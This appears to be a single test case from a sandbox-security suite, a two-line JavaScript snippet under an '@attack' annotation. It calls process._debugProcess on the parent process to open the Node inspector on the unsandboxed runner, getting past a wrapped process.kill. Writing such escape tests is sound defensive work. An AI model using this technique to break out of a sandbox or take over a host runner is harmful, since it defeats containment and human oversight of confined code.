/* @attack {"title": "process._debugProcess(process.ppid): SIGUSR1 to the runner (not wrapped like process.kill) opens the inspector on the unsandboxed runner at 127.0.0.1:9229"} */
process._debugProcess(process.ppid);
await new Promise((r) => setTimeout(r, 500));
